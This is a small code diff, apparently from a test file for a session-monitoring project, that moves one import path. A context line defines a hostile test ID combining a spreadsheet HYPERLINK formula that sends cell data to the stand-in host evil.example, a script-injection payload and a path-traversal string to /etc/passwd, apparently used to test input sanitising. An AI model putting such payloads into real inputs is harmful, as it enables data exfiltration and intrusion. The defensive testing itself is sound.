@@ -10,7 +10,7 @@ from monitor.clock import SimulatedClock
 from monitor.model import Limb, MarkerKind, SessionInfo
 from monitor.pipeline import BlockPipeline
 from monitor.recorder import SessionRecorder
-from monitor.sources.simulated import SimulatedSource
+from monitor.simulation.source import SimulatedSource
 from monitor.store import SessionStore
 
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?x="&A1)<script>alert(1)</script>../../etc/passwd'
